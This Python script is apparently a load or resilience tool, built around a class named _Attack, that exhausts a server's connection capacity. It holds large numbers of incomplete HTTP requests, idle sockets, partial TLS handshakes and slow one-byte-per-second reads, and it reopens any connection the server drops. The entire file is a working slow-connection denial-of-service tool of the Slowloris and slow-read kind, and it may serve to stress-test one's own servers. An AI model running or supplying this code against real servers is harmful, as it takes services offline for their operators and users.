"""Connections that are as slow as can be, from one computer; holds them until it is killed.

ADDRESS PORT PATH KIND=COUNT…: `begun` sends a request that never ends, `idle` nothing at all,
`hello` the beginning of a TLS handshake; `slow` reads what is at PATH a byte a second, `secret`
does so over TLS. Whatever the server ends is opened again. Prints an empty line when all that it
lets in are open for the first time.
"""

from __future__ import annotations

import contextlib
import resource
import selectors
import socket
import ssl
import sys
import time
from dataclasses import dataclass, field

_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
_AT_ONCE = 1000
_SECONDS = 2.0
"""So long one that is not let in is waited for."""


@dataclass
class _Attack:
    """What is held of each kind."""

    place: tuple[str, int]
    request: bytes
    wanted: dict[str, int]
    waiting: selectors.BaseSelector = field(default_factory=selectors.DefaultSelector)
    opening: dict[socket.socket, tuple[str, float]] = field(default_factory=dict)
    held: dict[socket.socket, str] = field(default_factory=dict)
    read: float = 0.0

    def turn(self) -> bool:
        """Open what is missing, give up what has ended; whether nothing is being opened."""
        kinds = [*self.held.values(), *(kind for kind, _ in self.opening.values())]
        for kind, count in self.wanted.items():
            for _ in range(min(count - kinds.count(kind), _AT_ONCE - len(self.opening))):
                self._open(kind)
        for key, _ in self.waiting.select(0.01):
            connection = key.fileobj
            assert isinstance(connection, socket.socket)
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                try:
                    self._go_on(connection)
                except OSError:
                    self._end(connection)
        now = time.monotonic()
        for connection, (_, since) in tuple(self.opening.items()):
            if now - since > _SECONDS:
                self._end(connection)
        self._read(now)
        return not self.opening

    def _open(self, kind: str) -> None:
        connection = socket.socket()
        # What does not fit here waits at the server.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.setblocking(False)
        connection.connect_ex(self.place)
        self.opening[connection] = kind, time.monotonic()
        self.waiting.register(connection, selectors.EVENT_WRITE)

    def _go_on(self, connection: socket.socket) -> None:
        if connection in self.held:
            # Nobody answers what was not asked: it has been ended.
            if not connection.recv(1):
                self._end(connection)
            return
        kind, _ = self.opening[connection]
        if kind == "secret":
            self._shake_hands(connection)
            return
        connection.send(
            {"begun": self.request[:-2], "idle": b"", "hello": _HELLO, "slow": self.request}[kind]
        )
        self._hold(connection, kind)

    def _shake_hands(self, connection: socket.socket) -> None:
        self.waiting.unregister(connection)
        del self.opening[connection]
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        connection.settimeout(_SECONDS)
        secret = context.wrap_socket(connection)
        secret.sendall(self.request)
        secret.setblocking(False)
        self.held[secret] = "secret"

    def _hold(self, connection: socket.socket, kind: str) -> None:
        del self.opening[connection]
        self.held[connection] = kind
        if kind == "slow":
            self.waiting.unregister(connection)
        else:
            self.waiting.modify(connection, selectors.EVENT_READ)

    def _read(self, now: float) -> None:
        if now - self.read < 1:
            return
        self.read = now
        for connection, kind in tuple(self.held.items()):
            if kind in {"slow", "secret"}:
                try:
                    if not connection.recv(1):
                        self._end(connection)
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    self._end(connection)

    def _end(self, connection: socket.socket) -> None:
        with contextlib.suppress(KeyError, ValueError):
            self.waiting.unregister(connection)
        self.opening.pop(connection, None)
        self.held.pop(connection, None)
        connection.close()


def main() -> None:
    address, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    wanted = {kind: int(count) for kind, _, count in (word.partition("=") for word in sys.argv[4:])}
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    request = f"GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n".encode()
    attack = _Attack((address, port), request, wanted)
    told, begun = False, time.monotonic()
    while True:
        settled = attack.turn()
        full = len(attack.held) >= sum(wanted.values())
        if not told and ((settled and full) or time.monotonic() - begun > 2 * _SECONDS):
            told = True
            print(flush=True)


if __name__ == "__main__":
    main()
